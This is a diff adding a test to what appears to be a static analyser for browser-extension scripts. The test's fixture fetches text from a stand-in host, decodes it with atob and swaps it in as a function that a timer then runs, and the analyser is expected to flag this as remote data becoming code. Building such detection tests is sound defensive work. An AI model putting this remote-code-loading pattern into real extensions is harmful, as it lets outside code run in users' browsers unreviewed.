@@ -284,6 +284,15 @@ describe('between scripts', () => {
     );
   });
 
+  it('sees a text that takes the place of a function before a timer runs it', async () => {
+    const code = (given: string): string =>
+      `let text = ''; function run(one) { return one && console.log(one); } function start() { setTimeout(run, 1000); }
+       function check() { if (text.length > 0) run = ${given}; start(); }
+       fetch('https://a.example/logo').then((r) => r.text()).then((t) => { text = t; check(); });`;
+    expect(await pairs(sample({ background: code('atob(text)') }))).toContain('remote-data > code');
+    expect(await pairs(sample({ background: code('() => atob(text)') }))).not.toContain('remote-data > code');
+  });
+
   it('follows values through storage by key', async () => {
     const read = (key: string): string => `chrome.storage.local.get("${key}", (o) => { setTimeout(o.${key}, 1); });`;
     const write =
